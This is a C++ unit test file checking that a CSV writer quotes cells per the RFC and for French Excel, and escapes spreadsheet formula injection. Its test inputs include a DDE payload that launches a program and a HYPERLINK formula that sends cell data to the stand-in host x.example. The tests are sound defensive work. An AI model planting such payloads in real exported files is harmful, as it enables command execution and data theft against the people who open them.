#include "client/cli/output/csv.h"

#include <gtest/gtest.h>

namespace relais::cli {
namespace {

TEST(CsvTest, FollowsTheRfc) {
  EXPECT_EQ(CsvLine({"a", "b,c", "d\"e", "f\ng", ""}), "a,\"b,c\",\"d\"\"e\",\"f\ng\",\r\n");
}

TEST(CsvTest, ACellNeverStartsAFormula) {
  EXPECT_EQ(CsvLine({"=1+1"}), "'=1+1\r\n");
  EXPECT_EQ(CsvLine({"@SUM(A1)"}), "'@SUM(A1)\r\n");
  EXPECT_EQ(CsvLine({"+1 819 555-1234"}), "'+1 819 555-1234\r\n");
  EXPECT_EQ(CsvLine({"-1+cmd|' /C calc'!A0"}), "'-1+cmd|' /C calc'!A0\r\n");
  EXPECT_EQ(CsvLine({"\t=1"}), "\"'\t'=1\"\r\n");
  EXPECT_EQ(CsvLine({"\r=1"}), "\"'\r'=1\"\r\n");
  EXPECT_EQ(CsvLine({" =1"}), "' =1\r\n");
  EXPECT_EQ(CsvLine({"-12.50", "+3", "-1,5", "-"}), "-12.50,+3,\"-1,5\",'-\r\n")
      << "plain numbers stay numbers";
}

// A French spreadsheet splits at semicolons, and ignores quotation marks inside a line.
TEST(CsvTest, NoPartOfACellStartsAFormulaWhereASpreadsheetMaySplitIt) {
  for (const CsvStyle style : {CsvStyle::kStandard, CsvStyle::kExcel}) {
    for (const char* separator : {";", ",", "\t", "\n", "\r\n"}) {
      for (const char* formula :
           {"=HYPERLINK(\"http://x.example/?\"&A1)", "+1+1", "-1+1", "@SUM(A1)", " =1", "\"=1"}) {
        const std::string cell = CsvLine({std::string("Café") + separator + formula}, style);
        const std::string part = std::string(separator) + "'";
        EXPECT_NE(cell.find(part), std::string::npos) << cell;
      }
    }
  }
  EXPECT_EQ(CsvLine({"Café;=1"}), "\"Café;'=1\"\r\n");
  EXPECT_EQ(CsvLine({"a;-5;b"}), "\"a;-5;b\"\r\n") << "a number is no formula";
  EXPECT_EQ(CsvLine({"Bien; merci"}), "\"Bien; merci\"\r\n");
}

TEST(CsvTest, ForFrenchExcel) {
  EXPECT_EQ(CsvHeader({"Projet", "Demandé"}, CsvStyle::kExcel), "\xef\xbb\xbfProjet;Demandé\r\n");
  EXPECT_EQ(CsvLine({"a;b", "45123,45"}, CsvStyle::kExcel), "\"a;b\";\"45123,45\"\r\n");
  EXPECT_EQ(CsvHeader({"name"}), "name\r\n") << "programs get no mark";
}

}  // namespace
}  // namespace relais::cli
